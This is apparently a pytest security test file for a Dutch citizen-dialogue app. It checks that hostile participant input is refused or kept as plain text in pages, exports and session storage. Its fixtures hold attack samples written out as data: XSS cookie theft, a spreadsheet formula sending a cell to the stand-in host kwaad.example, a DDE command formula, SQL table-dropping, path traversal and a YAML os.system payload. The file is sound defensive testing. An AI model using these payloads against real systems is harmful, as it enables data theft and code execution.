"""What people should not type and do, from the browser's message to the files that are taken home."""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
import zipfile
from contextlib import closing
from pathlib import Path
from time import process_time
from typing import Any
from xml.etree import ElementTree

import pytest

from veerkracht_nb.apps import SessionParameters, facilitator, participant, prepare, screen
from veerkracht_nb.apps.facilitator import FACILITATOR
from veerkracht_nb.apps.participant import ParticipantApp
from veerkracht_nb.apps.room import Room
from veerkracht_nb.areas import Municipality
from veerkracht_nb.dialogue import (
    Actor,
    Moderated,
    Revealed,
    SeatTaken,
    Session,
    SessionClosed,
    StepStarted,
    Verhaal,
    Withdrawn,
    authority,
    open_session,
    personal_data_hints,
    read_script,
    view_for,
)
from veerkracht_nb.dialogue.text import tidy
from veerkracht_nb.errors import InvalidContribution, LogError, ScriptError, SessionNotFound, StorageFull
from veerkracht_nb.sources import load_municipality
from veerkracht_nb.widgets import ErrorPanel
from veerkracht_nb.widgets._base import MAX_MESSAGE

SEAT = Actor(id="plaats-0001", kind="deelnemer")
HTML = "<img src=x onerror=alert(1)><script>alert(document.cookie)</script>"
FORMULA = '=HYPERLINK("http://kwaad.example/?"&A1,"klik")'
TEXTS = {
    "html": (HTML, HTML),
    "formula": (FORMULA, FORMULA),
    "other formula": ("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "minus": ("-2+3", "-2+3"),
    "markdown": (
        "[klik](javascript:alert(1)) `rm` | kolom | # kop",
        "[klik](javascript:alert(1)) `rm` | kolom | # kop",
    ),
    "template": ("{{ 7*7 }} ${7*7} %(x)s {0.__class__}", "{{ 7*7 }} ${7*7} %(x)s {0.__class__}"),
    "sql": ("'); DROP TABLE event; --", "'); DROP TABLE event; --"),
    "vertical tab": ("regel een\x0bregel twee", "regel een\nregel twee"),
    "control": ("a\x00b\x1b[31mc\x7f", "ab[31mc"),
    "surrogates": ("voor\ud800na\udfff", "voorna"),
    "pair of halves": ("blij \ud83d\ude00", "blij 😀"),
    "right to left": ("abc\u202edcba\u202c\u2066x\u200f", "abcdcbax"),
    "emoji": ("👩🏽‍🚒👨‍👩‍👧‍👦 🇳🇱", "👩🏽‍🚒👨‍👩‍👧‍👦 🇳🇱"),
    "a file": ("/etc/passwd", "/etc/passwd"),
    "stacked marks": ("Z" + "\u0301" * 500, None),
}


@pytest.fixture(scope="session")
def embedded() -> Municipality:
    return load_municipality("GM9901")


@pytest.fixture
def session(embedded: Municipality, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Session:
    monkeypatch.setattr(prepare, "load_municipality", lambda *_: embedded)
    session = prepare.prepare_session(script="kennismaking", folder=tmp_path / "zaal")
    session.submit(SeatTaken(role="bewoner"), SEAT)
    session.submit(StepStarted(step="verhalen"), FACILITATOR)
    return session


class Form:
    """The page of one participant, reduced to the field for a story."""

    def __init__(self, session: Session) -> None:
        self.app = ParticipantApp(Room(open_session(session.path), SEAT), None)
        self.code = session.state().buurten[0].code
        self.acks: list[dict[str, Any]] = []
        self.app.forms["verhaal"].send = lambda content, buffers=None: self.acks.append(content)

    def save(self, text: object, **more: object) -> dict[str, Any]:
        body = {"step": "verhalen", "buurt": self.code, "text": text, "confirmed": True, **more}
        nonce = f"nonce-{len(self.acks):06d}"
        message = {"type": "command", "nonce": nonce, "name": "bewaar", "body": body}
        self.app.forms["verhaal"]._handle_custom_msg(message, [])
        return self.acks[-1]


@pytest.mark.parametrize("kind", TEXTS)
def test_a_hostile_story_is_kept_as_plain_text(session: Session, kind: str) -> None:
    typed, kept = TEXTS[kind]
    form = Form(session)
    assert form.save(typed)["ok"], form.acks[-1]
    payload = session.events()[-1].payload
    assert isinstance(payload, Verhaal) and payload.text
    assert kept is None or payload.text == kept
    assert len(payload.text) < 600
    (item,) = form.app.stories.items
    assert item["text"] == payload.text
    json.dumps(form.app.stories.get_state("items")).encode("utf-8")
    assert session.state().contributions, "the log can be read again"


@pytest.mark.parametrize(
    "text",
    [
        "x" * 601,
        "x" * 63_000,
        "x" * 100_000,
        "\u0301" * 40_000,
        "",
        " \n ",
        "\u200b\u202e\x00",
        None,
        3,
        ["x"],
    ],
)
def test_a_story_that_cannot_be_kept_is_refused_and_nothing_is_cut_off(
    session: Session, text: object
) -> None:
    before = session.events()
    ack = Form(session).save(text)
    assert ack["ok"] is False and ack["message"] and len(json.dumps(ack)) < 3_000
    assert session.events() == before


@pytest.mark.parametrize(
    "more",
    [
        {"step": "bestaat_niet"},
        {"step": "../verhalen"},
        {"story_kind": "leugen"},
        {"tone": "<b>"},
        {"consent": "iedereen"},
        {"replaces": "0" * 32},
        {"buurt": "BU00000000"},
        {"role": "bestuur"},
        {"pin": [4.3, 51.9]},
        {"theme": "x" * 41},
    ],
)
def test_what_is_not_in_the_script_or_the_session_is_refused(
    session: Session, more: dict[str, object]
) -> None:
    before = session.events()
    assert Form(session).save("Een verhaal", **more)["ok"] is False
    assert session.events() == before


def test_one_participant_cannot_fill_the_memory_of_every_page(
    session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(authority, "MAX_TEXTS", 3)
    form = Form(session)
    assert [form.save(f"verhaal {n}")["ok"] for n in range(5)] == [True, True, True, False, False]
    last = session.events()[-1]
    assert form.save("verbeterd", replaces=last.id)["ok"], "what is there can still be corrected"
    session.submit(Withdrawn(target=last.id), SEAT)
    assert not form.save("nog een")["ok"], "withdrawing makes no room: what it leaves behind is kept too"
    other = Actor(id="plaats-0002", kind="deelnemer")
    session.submit(SeatTaken(role="bewoner"), other)
    assert session.submit(Verhaal(step="verhalen", buurt=form.code, text="van een ander"), other)


def test_looking_for_personal_data_and_cleaning_take_no_longer_for_hostile_text(session: Session) -> None:
    """The longest text that a message may hold, in shapes that make a careless pattern try everything."""
    longest = MAX_MESSAGE - 500
    shapes = (
        "a",
        "1",
        "1 ",
        "06-",
        "a@",
        "@.",
        "a.",
        "straat ",
        "x-'",
        "\n ",
        " ",
        "1234 a",
        "é",
        "0" * 8 + " ",
    )
    began = process_time()
    for shape in shapes:
        text = (shape * longest)[:longest]
        personal_data_hints(text)
        tidy(text)
    # Seconds would be minutes with one pattern that tries everything; on a busy machine this takes half of one.
    assert process_time() - began < 10


def test_a_role_that_is_not_in_the_session_gives_no_seat(session: Session) -> None:
    before = session.events()
    for role in ("wethouder", "", "begeleider", "\ud800", "x" * 100_000):
        with pytest.raises(InvalidContribution):
            session.submit(SeatTaken(role=role), Actor(id="plaats-0002", kind="deelnemer"))
    assert session.events() == before


def _parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        xml = {name: archive.read(name) for name in archive.namelist() if name.endswith((".xml", ".rels"))}
    for content in xml.values():
        ElementTree.fromstring(content)
    return {name: content.decode("utf-8") for name, content in xml.items()}


def test_hostile_stories_arrive_in_every_file_as_text(session: Session, tmp_path: Path) -> None:
    form = Form(session)
    for typed, _kept in TEXTS.values():
        assert form.save(typed)["ok"]
        session.submit(Moderated(target=session.events()[-1].id, decision="getoond"), FACILITATOR)
    session.submit(Revealed(step="verhalen", level="alles"), FACILITATOR)
    told = [c.text or "" for c in session.state().contributions.values()]
    md, docx, xlsx, gpkg = prepare.export(session, tmp_path / "uit")
    assert "<script>" not in md.read_text(encoding="utf-8")
    parts = _parts(docx)
    words = "".join(ElementTree.fromstring(parts["word/document.xml"]).itertext())
    for text in told:
        for line in text.split("\n"):
            assert line in words
    sheets = _parts(xlsx)
    assert not any(
        "<f>" in part or "hyperlink" in part.lower() for name, part in sheets.items() if "sheet" in name
    )
    strings = "".join(ElementTree.fromstring(sheets["xl/sharedStrings.xml"]).itertext())
    assert all(text in strings for text in (HTML, FORMULA, "-2+3"))
    with closing(sqlite3.connect(gpkg)) as db:
        tables = [row[0] for row in db.execute("SELECT table_name FROM gpkg_contents")]
        rows = [str(row) for name in tables for row in db.execute(f'SELECT * FROM "{name}"')]  # noqa: S608
    assert any("DROP TABLE event" in row for row in rows) and any("onerror" in row for row in rows)


def test_screens_carry_hostile_text_as_text_only(session: Session) -> None:
    Form(session).save(HTML)
    session.submit(Moderated(target=session.events()[-1].id, decision="getoond"), FACILITATOR)
    session.submit(Revealed(step="verhalen", level="alles"), FACILITATOR)
    from veerkracht_nb.apps.screen import SCREEN, ScreenApp

    wall = ScreenApp(Room(open_session(session.path), SCREEN), None)
    assert wall.stories.items[0]["text"] == HTML, (
        "escaped at the one place where it is shown, and nowhere else"
    )
    rendered = {type(widget).__name__ for widget in vars(wall).values()}
    assert not rendered & {"HTML", "HTMLMath", "Output"}


@pytest.mark.parametrize("page", [participant, facilitator, screen])
@pytest.mark.parametrize("content", [b"", b"geen sessie", b"SQLite format 3\x00" + b"\xff" * 5000, None])
def test_a_spoilt_session_is_a_panel_on_every_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, page: Any, content: bytes | None
) -> None:
    path = tmp_path / "stuk.sessie"
    if content is not None:
        path.write_bytes(content)
    kind = {"participant": "deelnemer", "facilitator": "begeleider", "screen": "scherm"}[page.__name__]
    launch = {"app": kind, "session": str(path), "actor": {"id": "bezoeker-0001", "kind": kind}}
    monkeypatch.setenv("VEERKRACHT_LAUNCH", json.dumps(launch))
    shown = page(SessionParameters())
    assert isinstance(shown, ErrorPanel)
    assert str(tmp_path) not in repr(shown.get_state()), "a visitor learns nothing of the folders here"
    assert content is None or path.read_bytes() == content


def test_a_full_disk_tells_the_writer_and_keeps_what_was_there(
    session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    form = Form(session)
    form.app.forms["verhaal"].edit("x", text="blijft staan")
    before = session.events()

    def full(*_args: object, **_more: object) -> None:
        raise StorageFull("Het sessiebestand is niet te schrijven.", todo="Maak ruimte vrij.")

    with monkeypatch.context() as patch:
        patch.setattr(form.app.room.session, "submit", full)
        ack = form.save("Past niet meer")
    assert ack["ok"] is False and ack["todo"] == "Maak ruimte vrij."
    assert form.app.forms["verhaal"].editing["text"] == "blijft staan"
    assert session.events() == before
    assert form.save("Past wel weer")["ok"]


@pytest.mark.skipif(sys.platform == "win32", reason="this system has no limit on the size of a file")
def test_a_real_limit_on_the_size_of_a_file_loses_nothing_that_was_acknowledged(session: Session) -> None:
    program = """
import resource, signal, sys
from veerkracht_nb.dialogue import Actor, Verhaal, open_session
from veerkracht_nb.errors import StorageFull
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
with open_session(sys.argv[1]) as session:
    seat, code = Actor(id="plaats-0001", kind="deelnemer"), session.state().buurten[0].code
    resource.setrlimit(resource.RLIMIT_FSIZE, (220_000, 220_000))
    for number in range(110):
        try:
            event = session.submit(Verhaal(step="verhalen", buurt=code, text=f"{number} " + "x" * 590), seat)
        except StorageFull:
            print("vol")
            break
        print(event.id, flush=True)
"""
    done = subprocess.run(
        [sys.executable, "-c", program, str(session.path)], capture_output=True, text=True, timeout=60
    )
    *acknowledged, last = done.stdout.split()
    assert last == "vol" and acknowledged, done.stdout + done.stderr
    assert set(acknowledged) <= {event.id for event in session.events()}
    session.submit(SessionClosed(), FACILITATOR)


@pytest.mark.parametrize("name", ["/etc/passwd", "..", "", "\x00", "x" * 5_000])
def test_a_draaiboek_is_a_name_or_a_yaml_file_and_nothing_else(name: str) -> None:
    with pytest.raises(ScriptError):
        read_script(name)


def test_yaml_of_a_stranger_makes_no_objects(tmp_path: Path) -> None:
    path = tmp_path / "kwaad.yaml"
    path.write_text("name: !!python/object/apply:os.system ['touch gehackt']\ntitle: x\nsteps: []\n")
    with pytest.raises(ScriptError):
        prepare.prepare_session(script=str(path))
    assert not Path("gehackt").exists()


@pytest.mark.parametrize("name", ["../../etc/passwd", "a/b", "\x00", "\ud800"])
def test_a_name_of_a_session_is_no_path(name: str) -> None:
    with pytest.raises((SessionNotFound, LogError)):
        prepare.find_session(name)


def test_a_view_of_a_stranger_holds_nothing_of_anybody(session: Session) -> None:
    Form(session).save("GEHEIM")
    for kind in ("deelnemer", "scherm"):
        view = view_for(session.state(), Actor(id="vreemdeling-1", kind=kind))
        assert "GEHEIM" not in repr(view) and SEAT.id not in repr(view)
